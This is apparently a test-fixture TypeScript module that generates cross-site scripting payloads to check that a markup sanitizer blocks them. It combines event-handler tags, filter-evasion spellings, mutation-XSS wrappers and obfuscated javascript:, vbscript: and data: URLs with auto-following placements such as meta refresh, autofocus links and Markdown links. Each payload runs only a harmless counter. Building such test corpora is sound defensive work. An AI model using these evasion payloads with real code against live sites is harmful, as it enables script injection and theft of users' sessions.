/** Ways to run a line of code from a tag, for a page that would take text for markup. */
const handlers: readonly [tag: string, attributes: string, handler: string][] = [
  ['img', 'src=x', 'onerror'],
  ['image', 'src=x', 'onerror'],
  ['svg', '', 'onload'],
  ['body', '', 'onload'],
  ['body', '', 'onpageshow'],
  ['iframe', 'src=about:blank', 'onload'],
  ['video', 'src=x', 'onerror'],
  ['audio', 'src=x', 'onerror'],
  ['source', 'src=x', 'onerror'],
  ['object', 'data=x', 'onerror'],
  ['embed', 'src=x', 'onload'],
  ['input', 'autofocus', 'onfocus'],
  ['input', 'type=image src=x', 'onerror'],
  ['select', 'autofocus', 'onfocus'],
  ['textarea', 'autofocus', 'onfocus'],
  ['details', 'open', 'ontoggle'],
  ['marquee', '', 'onstart'],
  ['style', '', 'onload'],
  ['link', 'rel=stylesheet href=x', 'onerror'],
  ['script', 'src=x', 'onerror'],
  ['math', 'tabindex=0 autofocus', 'onfocus'],
  ['div', 'style=animation:a', 'onanimationstart'],
  ['p', 'contenteditable autofocus', 'onfocusin'],
  ['animate', 'attributeName=x dur=1s', 'onbegin']
];

/** The same tag and handler, as one is written to be missed. */
const spellings: readonly ((tag: string, attributes: string, code: string) => string)[] = [
  (tag, attributes, code) => `<${tag} ${attributes} ${code}>`,
  (tag, attributes, code) => `<${tag.toUpperCase()} ${attributes} ${code.replace('on', 'oN')}>`,
  (tag, attributes, code) => `<${tag}/${attributes.replaceAll(' ', '/')}/${code}//`,
  (tag, attributes, code) => `"'><${tag}\n${attributes}\t${code}></${tag}>`,
  (tag, attributes, code) => `<svg><foreignObject><${tag} ${attributes} ${code}></svg>`,
  (tag, attributes, code) => `<noscript><p title="</noscript><${tag} ${attributes} ${code}>">`,
  (tag, attributes, code) =>
    `<math><mtext><table><mglyph><style><!--</style><${tag} title="--><${tag} ${attributes} ${code}>">`
];

/** Schemes that run or lead out, spelled to be missed. */
const schemes: readonly string[] = [
  'javascript:CODE',
  'JaVaScRiPt:CODE',
  'java\tscript:CODE',
  'java\nscript:CODE',
  '&#106;avascript:CODE',
  '&#x6A;avascript&colon;CODE',
  '\u0001javascript:CODE',
  'javascript://%0aCODE',
  'vbscript:CODE',
  'data:text/html,<script>CODE</script>',
  'data:text/html;charset=utf-7,+ADw-script+AD4-CODE',
  'data:image/svg+xml,<svg onload=CODE>',
  '//HOST/#CODE',
  'http://HOST/?CODE',
  'file://HOST/share#CODE'
];

/** Where a page would follow an address by itself or by a click; the last of them as Markdown has it. */
const places: readonly ((address: string) => string)[] = [
  (address) => `<a href="${address}" autofocus>go</a>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<form action="${address}"><button autofocus>go</button></form>`,
  (address) => `<meta http-equiv=refresh content="0;url=${address}">`,
  (address) => `<svg><use href="${address}"/><a xlink:href="${address}"><text>go</text></a></svg>`,
  (address) => `[go](${address}) ![go](${address}) <${address}>`
];

/**
 * Every handler in every spelling and every scheme in every place, numbered: the code of the seventh is
 * `window.__ran=7`, and none of it may ever run. `host` is an address that counts who asks.
 */
export function markupPayloads(host: string): string[] {
  const written = [
    ...handlers.flatMap(([tag, attributes, handler]) =>
      spellings.map((spell) => (code: string) => spell(tag, attributes, `${handler}=${code}`))
    ),
    ...schemes.flatMap((scheme) =>
      places.map(
        (place) => (code: string) => place(scheme.replace('HOST', host).replace('CODE', code))
      )
    )
  ];
  return written.map((write, at) => write(`window.__ran=${at + 1}`));
}
